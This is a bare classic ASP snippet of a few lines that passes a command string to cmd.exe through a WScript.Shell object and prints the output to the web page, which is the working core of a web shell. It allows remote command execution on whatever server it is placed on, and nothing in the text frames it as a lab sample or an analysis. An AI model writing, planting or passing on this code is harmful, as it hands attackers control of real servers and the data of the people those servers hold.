<%
Set ws = Server.CreateObject("WScript.Shell")
Set ex = ws.Exec("cmd.exe /c " & cmdline)
Response.Write "<pre>" & Server.HTMLEncode(ex.StdOut.ReadAll()) & "</pre>"
%>
